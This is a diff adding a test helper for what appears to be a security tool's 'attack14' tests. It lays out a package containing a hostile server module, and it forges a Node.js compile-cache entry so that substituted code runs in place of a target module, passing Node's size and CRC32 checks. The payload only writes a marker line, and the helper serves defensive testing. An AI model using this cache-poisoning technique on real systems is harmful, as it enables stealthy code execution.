@@ -1,0 +1,60 @@
+import { spawnSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import zlib from 'node:zlib';
+import { SERVERS } from '../helpers/warden.js';
+
+// Shared by the attack14 tests: test/servers/attack14/hostile.mjs laid out as a package (with its innocent
+// lib/innocent.mjs inside, so attested with it). Driven with loaderCall of ../attack13/loader-session.ts.
+
+/** Lays out dir/work/pkg: package.json, src/server.mjs (hostile.mjs), lib/rpc.mjs, lib/innocent.mjs. */
+export function layoutHostile(dir: string): string {
+  const pkg = path.join(dir, 'work/pkg');
+  fs.mkdirSync(path.join(pkg, 'src'), { recursive: true });
+  fs.mkdirSync(path.join(pkg, 'lib'));
+  fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'attack14-hostile', version: '1.0.0', type: 'module' }));
+  fs.copyFileSync(path.join(SERVERS, 'lib/rpc.mjs'), path.join(pkg, 'lib/rpc.mjs'));
+  fs.copyFileSync(path.join(SERVERS, 'attack14/innocent.mjs'), path.join(pkg, 'lib/innocent.mjs'));
+  const server = path.join(pkg, 'src/server.mjs');
+  fs.copyFileSync(path.join(SERVERS, 'attack14/hostile.mjs'), server);
+  return server;
+}
+
+/**
+ * Writes into `cacheDir` a node compile cache (module.enableCompileCache) whose entry for the ES module `target`
+ * holds the code of another source of the same length, one that appends `evil ran` to `marker` and exports
+ * greeting "hi". Made as anyone could: `node` (no guard) compiles that source under target's URL (a load hook
+ * answers it), then the entry's header gets target's own source size and CRC32, which is all node checks against
+ * the source (V8 checks only its length). Returns the number of entries patched (1).
+ */
+export function poisonCompileCache(node: string, target: string, marker: string, cacheDir: string, work: string): number {
+  const source = fs.readFileSync(target);
+  const evil = `import fs from 'node:fs'; fs.appendFileSync(${JSON.stringify(marker)}, 'evil ran\\n'); export const greeting = 'hi';`;
+  if (evil.length > source.length) throw new Error('target too short for the evil source');
+  const padded = evil.padEnd(source.length, ' ');
+  fs.mkdirSync(work, { recursive: true });
+  const hook = path.join(work, 'compile-as-target.mjs');
+  const url = pathToFileURL(target).href;
+  fs.writeFileSync(hook, `import { registerHooks } from 'node:module';\nregisterHooks({ load(url, context, nextLoad) { return url === ${JSON.stringify(url)} ? { format: 'module', source: ${JSON.stringify(padded)}, shortCircuit: true } : nextLoad(url, context); } });\n`);
+  const r = spawnSync(node, ['--import', pathToFileURL(hook).href, '--input-type=module', '-e', `await import(${JSON.stringify(url)});`], {
+    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', NODE_COMPILE_CACHE: cacheDir },
+    encoding: 'utf8',
+  });
+  if (r.status !== 0) throw new Error(`compiling the evil source failed: ${r.stderr}`);
+  fs.rmSync(marker, { force: true }); // it ran there, in that node: not the server
+  let patched = 0;
+  for (const tag of fs.readdirSync(cacheDir)) {
+    for (const entry of fs.readdirSync(path.join(cacheDir, tag))) {
+      const file = path.join(cacheDir, tag, entry);
+      const buf = fs.readFileSync(file);
+      // header: magic, code size, cache size, code hash (CRC32 of the source), cache hash (uint32 LE each)
+      if (buf.length < 20 || buf.readUInt32LE(4) !== Buffer.byteLength(padded)) continue;
+      buf.writeUInt32LE(source.length, 4);
+      buf.writeUInt32LE(zlib.crc32(source), 12);
+      fs.writeFileSync(file, buf);
+      patched++;
+    }
+  }
+  return patched;
+}
